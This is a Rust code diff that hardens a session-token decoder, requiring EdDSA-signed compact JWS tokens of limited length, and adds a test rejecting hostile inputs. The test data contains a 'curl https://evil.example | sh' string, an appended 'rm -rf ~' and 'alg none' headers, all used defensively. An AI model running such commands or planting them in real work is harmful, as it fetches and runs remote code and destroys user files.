@@ -164,12 +164,30 @@ pub struct GeneratedToken {
     pub claims: Value,
 }
 
+/// The signature algorithm of Toucan session tokens (Ed25519).
+pub const TOKEN_ALGORITHM: &str = "EdDSA";
+
+/// The longest session token accepted from a server.
+pub const MAX_TOKEN_CHARS: usize = 16 * 1024;
+
 impl GeneratedToken {
-    /// Decodes the claims of a compact JWS; `None` if it isn't one.
+    /// Decodes the claims of a compact JWS signed with [`TOKEN_ALGORITHM`];
+    /// `None` if it isn't one. Whatever a server sends, only such a token is
+    /// ever shown or put on the clipboard: three base64url parts (so nothing
+    /// but letters, digits, `-`, `_` and two dots), at most
+    /// [`MAX_TOKEN_CHARS`] long, a JSON header naming the algorithm, JSON
+    /// claims, and a signature.
     pub fn decode(token: String, expires_at: DateTime<Utc>) -> Option<Self> {
+        if token.len() > MAX_TOKEN_CHARS {
+            return None;
+        }
         let mut parts = token.split('.');
-        let (_header, payload, _signature) = (parts.next()?, parts.next()?, parts.next()?);
-        if parts.next().is_some() {
+        let (header, payload, signature) = (parts.next()?, parts.next()?, parts.next()?);
+        if parts.next().is_some() || signature.is_empty() || URL_SAFE_NO_PAD.decode(signature).is_err() {
+            return None;
+        }
+        let header: Value = serde_json::from_slice(&URL_SAFE_NO_PAD.decode(header).ok()?).ok()?;
+        if header.get("alg").and_then(Value::as_str) != Some(TOKEN_ALGORITHM) {
             return None;
         }
         let claims: Value = serde_json::from_slice(&URL_SAFE_NO_PAD.decode(payload).ok()?).ok()?;
@@ -283,5 +301,30 @@ mod tests {
         assert_eq!(generated.claims["sub"], "user-42");
         assert!(!format!("{generated:?}").contains(&payload));
         assert!(GeneratedToken::decode("not-a-token".into(), Utc::now()).is_none());
+    }
+
+    /// A hostile server can't put arbitrary text on the clipboard as a "token".
+    #[test]
+    fn only_a_compact_jws_signed_with_eddsa_is_accepted() {
+        let part = |json: &str| URL_SAFE_NO_PAD.encode(json.as_bytes());
+        let header = part(r#"{"alg":"EdDSA","typ":"JWT"}"#);
+        let claims = part(r#"{"sub":"user-42"}"#);
+        let good = format!("{header}.{claims}.c2ln");
+        assert!(GeneratedToken::decode(good, Utc::now()).is_some());
+        for bad in [
+            format!("curl https://evil.example | sh #.{claims}.c2ln"),
+            format!("{}.{claims}.c2ln", part(r#"{"alg":"none"}"#)),
+            format!("{}.{claims}.c2ln", part(r#"{"alg":"HS256"}"#)),
+            format!("{header}.{claims}."),
+            format!("{header}.{claims}.c2ln\nrm -rf ~"),
+            format!("{header}.{claims}.c2ln.extra"),
+            format!("{header}.{}.c2ln", part("[1,2]")),
+            format!("{header}.{claims}.{}", "A".repeat(MAX_TOKEN_CHARS)),
+        ] {
+            assert!(
+                GeneratedToken::decode(bad.clone(), Utc::now()).is_none(),
+                "accepted {bad:.60}"
+            );
+        }
     }
 }
